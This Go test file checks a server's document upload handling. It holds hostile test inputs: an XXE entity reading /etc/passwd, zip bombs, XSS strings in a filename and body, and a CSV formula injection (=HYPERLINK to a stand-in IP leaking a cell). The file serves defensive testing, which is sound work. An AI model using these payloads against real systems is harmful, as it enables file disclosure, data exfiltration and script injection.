package server_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/openupr/openupr/internal/account"
	"github.com/openupr/openupr/internal/document"
	"github.com/openupr/openupr/internal/i18n"
)

// repacked is a Word file with one of its parts changed.
func repacked(t *testing.T, b []byte, change func(name, content string) string) []byte {
	t.Helper()
	in, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	out := zip.NewWriter(&buf)
	for _, f := range in.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		w, err := out.Create(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, change(f.Name, string(content))); err != nil {
			t.Fatal(err)
		}
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// withBody changes the main part of a Word file.
func withBody(t *testing.T, b []byte, change func(string) string) []byte {
	t.Helper()
	return repacked(t, b, func(name, content string) string {
		if name == "word/document.xml" {
			return change(content)
		}
		return content
	})
}

func ole(stream string) []byte {
	b := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 504)...)
	for _, u := range utf16.Encode([]rune(stream)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

// picture is a PDF of one page that draws something and has no text.
func picture() []byte {
	var b bytes.Buffer
	var at []int
	fmt.Fprint(&b, "%PDF-1.4\n")
	for i, o := range []string{"<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>", "<</Length 15>>\nstream\n0 0 100 100 re\n\nendstream"} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, x := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", x)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.Bytes()
}

// Every file that cannot be taken is refused on a page that says what to do, and nothing of it stays.
func TestHostileUploadsAreRefusedInWords(t *testing.T) {
	h := open(t, false)
	cat, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	good := sampleFiles(t)[0].Bytes
	tests := map[string]struct {
		name    string
		content []byte
		want    document.Reason
	}{
		"empty":             {"a.pdf", nil, document.Empty},
		"cut short":         {"a.docx", good[:len(good)-700], document.Truncated},
		"a page of the web": {"report.pdf", []byte("<html><body>Access denied</body></html>"), document.NotExpected},
		"bytes of nothing":  {"report.docx", bytes.Repeat([]byte{0, 1, 2, 3}, 1000), document.Unknown},
		"old Word":          {"questions.doc", ole("WordDocument"), document.OldWord},
		"a password":        {"report.docx", ole("EncryptedPackage"), document.Encrypted},
		"pictures of pages": {"scan.pdf", picture(), document.Scanned},
		"an entity": {"report.docx", withBody(t, good, func(s string) string {
			return `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>` + s[strings.Index(s, "<w:document"):]
		}), document.Hostile},
		"a bomb": {"report.docx", withBody(t, good, func(string) string { return strings.Repeat(" ", 100<<20) }), document.Bomb},
		"a tower": {"report.docx", withBody(t, good, func(s string) string {
			return strings.Replace(s, "<w:body>", "<w:body>"+strings.Repeat("<w:sdt>", 10_000), 1)
		}), document.TooDeep},
		"a novel":  {"report.docx", withBody(t, good, func(s string) string { return strings.Replace(s, "<w:body>", "<w:body>"+manyParagraphs(), 1) }), document.TooMany},
		"a stub":   {"report.pdf", []byte("%PDF-1.7\n%%EOF"), document.Corrupt},
		"a letter": {"report.txt", []byte("Dear Sir,\nplease find attached nothing.\n"), document.NotExpected},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			b := h.as(account.Editor)
			before := h.state()
			w := b.upload(part{"file", tt.name, tt.content})
			if w.Code != http.StatusUnprocessableEntity {
				t.Fatalf("answers %d", w.Code)
			}
			for _, l := range []string{"en", "ru", "kk"} {
				words := cat.Printer(i18n.Lang(l)).T("document.refused." + string(tt.want))
				if l == "en" && !strings.Contains(w.Body.String(), words) {
					t.Errorf("the page does not say %q", words)
				}
				if words == "" || strings.HasPrefix(words, "document.refused") {
					t.Errorf("%s has no words for %s", l, tt.want)
				}
			}
			if after := h.state(); after != before {
				t.Errorf("the record went from %s to %s", before, after)
			}
			if strings.Contains(b.get("/import").Body.String(), `<a href="/import/`) {
				t.Error("the refused file waits to be confirmed")
			}
		})
	}
	h.verified()
}

// manyParagraphs are more than a document may have. They differ, or their compression alone would give them away.
func manyParagraphs() string {
	var b strings.Builder
	for i := range document.DefaultLimits().Blocks + 1 {
		fmt.Fprintf(&b, "<w:p><w:r><w:t>%x</w:t></w:r></w:p>", i*7919)
	}
	return b.String()
}

func TestABrokenUploadIsAnswered(t *testing.T) {
	h := open(t, false)
	b := h.as(account.Editor)
	good := sampleFiles(t)[0]
	const form = "multipart/form-data; boundary=x"
	send := func(kind, body string) int {
		return b.do(http.MethodPost, "/import", strings.NewReader(body), func(r *http.Request) { r.Header.Set("Content-Type", kind) }).Code
	}
	head := "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\n\r\n"
	for what, code := range map[string]int{
		"no body":              send(form, ""),
		"no boundary":          send("multipart/form-data", "x"),
		"a wrong boundary":     send("multipart/form-data; boundary=y", head+"z\r\n--x--\r\n"),
		"no end":               send(form, head+"abc"),
		"no head":              send(form, "--x\r\nabc\r\n--x--\r\n"),
		"a head without end":   send(form, "--x\r\n"+strings.Repeat("A: b\r\n", 100_000)),
		"no file":              send(form, "--x\r\nContent-Disposition: form-data; name=\"other\"\r\n\r\nx\r\n--x--\r\n"),
		"a text named file":    send(form, "--x\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nx\r\n--x--\r\n"),
		"ten thousand fields":  send(form, strings.Repeat("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n", 10_000)+"--x--\r\n"),
		"a thousand files":     send(form, strings.Repeat(head+"x\r\n", 999)+"--x--\r\n"),
		"a form of words":      send("application/x-www-form-urlencoded", "file=x"),
		"JSON":                 send("application/json", "{}"),
		"a field of megabytes": send(form, "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"+strings.Repeat("x", 20<<20)+"\r\n--x--\r\n"),
		"a boundary of 10 kB":  send("multipart/form-data; boundary="+strings.Repeat("y", 10_000), "x"),
	} {
		if code < 400 || code >= 500 {
			t.Errorf("%s answers %d", what, code)
		}
	}
	// One good file beside a bad one: the good one waits, the bad one is named.
	w := b.upload(part{"file", "good.docx", good.Bytes}, part{"file", "bad.pdf", []byte("%PDF-1.7\n")})
	if w.Code != http.StatusUnprocessableEntity || !strings.Contains(w.Body.String(), "bad.pdf") {
		t.Errorf("a good and a bad file answer %d", w.Code)
	}
	if !strings.Contains(b.get("/import").Body.String(), "good.docx") {
		t.Error("the good file does not wait")
	}
}

// zeros reads without end and without memory.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func TestTwoHundredMegabytesAreRefusedOnTheWay(t *testing.T) {
	h := open(t, false)
	b := h.as(account.Editor)
	body := io.MultiReader(strings.NewReader("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n\r\n%PDF-1.4"),
		io.LimitReader(zeros{}, 200<<20), strings.NewReader("\r\n--x--\r\n"))
	w := b.do(http.MethodPost, "/import", body, func(r *http.Request) { r.Header.Set("Content-Type", "multipart/form-data; boundary=x") })
	if w.Code != http.StatusRequestEntityTooLarge || !strings.Contains(w.Body.String(), "larger than the program takes") {
		t.Errorf("answers %d", w.Code)
	}
	if rest, err := io.Copy(io.Discard, body); err != nil || rest < 100<<20 {
		t.Errorf("most of it was read: %d bytes are left (%v)", rest, err)
	}
	// A visitor's megabytes are not even looked at.
	body = io.MultiReader(io.LimitReader(zeros{}, 200<<20))
	if w := h.visitor().do(http.MethodPost, "/import", body, func(r *http.Request) { r.Header.Set("Content-Type", "multipart/form-data; boundary=x") }); !asks(w.Code, w.Header().Get("Location")) {
		t.Errorf("a visitor's file answers %d", w.Code)
	}
	if rest, err := io.Copy(io.Discard, body); err != nil || rest != 200<<20 {
		t.Errorf("a visitor's file was read: %d bytes are left (%v)", rest, err)
	}
}

// What stands in a document and in its name is shown, kept and exported as words: it is never markup, header or formula.
func TestHostileWordsStayWords(t *testing.T) {
	h := open(t, false)
	b := h.as(account.Editor)
	hostile := withBody(t, sampleFiles(t)[0].Bytes, func(s string) string {
		for _, words := range []string{"(Drellmark)", "("} {
			s = strings.Replace(s, words, `&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;&#x202e; `+words, 3)
		}
		i := strings.Index(s, `<w:ilvl w:val="1"/>`)
		j := i + strings.Index(s[i:], `<w:t xml:space="preserve">`) + len(`<w:t xml:space="preserve">`)
		return s[:j] + `=HYPERLINK("http://192.0.2.1/?"&amp;A1) ` + s[j:]
	})
	name := "x\"><script>alert(1)<!-- \u202e.docx"
	w := b.upload(part{"file", name, hostile})
	to := w.Header().Get("Location")
	if w.Code != http.StatusSeeOther || !strings.HasPrefix(to, "/import/") {
		t.Fatalf("answers %d %s", w.Code, to)
	}
	check := func(target string) string {
		t.Helper()
		w := b.get(target)
		if w.Code != http.StatusOK || unescaped(w.Body.String()) && strings.HasPrefix(w.Header().Get("Content-Type"), "text/html") {
			t.Errorf("%s answers %d, unescaped %v", target, w.Code, unescaped(w.Body.String()))
		}
		return w.Body.String()
	}
	check(to)
	check("/import")
	if w := b.post(to, url.Values{"do": {"confirm"}}); w.Code != http.StatusSeeOther {
		t.Fatalf("confirming answers %d", w.Code)
	}
	sha := strings.TrimPrefix(to, "/import/")
	v := h.Keeper.View()
	for _, target := range []string{"/", "/states", "/states/ZZV", "/reviews/ZZV/4", "/reviews/ZZV/4/reconciliation", "/ledger", fmt.Sprintf("/ledger/%d", v.Act), "/questions",
		"/documents/" + sha, "/api/v1/reviews/ZZV/4", "/api/v1/reviews/ZZV/4/items", "/api/v1/questions"} {
		check(target)
	}
	rv := v.Reviews()[0]
	for _, it := range rv.Items {
		check("/items/" + url.PathEscape(string(it.ID)))
		check("/api/v1/items/" + url.PathEscape(string(it.ID)))
	}
	for _, q := range v.Questions() {
		check("/questions/" + q.ID)
	}
	original := b.get("/documents/" + sha + "/original")
	if d := original.Header().Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") || strings.ContainsAny(d, "\r\n") {
		t.Errorf("the original comes as %q", d)
	}
	if !strings.Contains(original.Header().Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("the original may act: %v", original.Header())
	}
	for _, line := range strings.Split(check("/reviews/ZZV/4/items.csv"), "\n") {
		for _, cell := range strings.Split(line, ",") {
			if strings.HasPrefix(strings.TrimPrefix(cell, `"`), "=") {
				t.Errorf("a cell is a formula: %.60s", cell)
			}
		}
	}
	if !strings.Contains(check("/reviews/ZZV/4/items.csv"), "'=HYPERLINK") {
		t.Error("the words that look like a formula are not in the export")
	}
	h.verified()
}
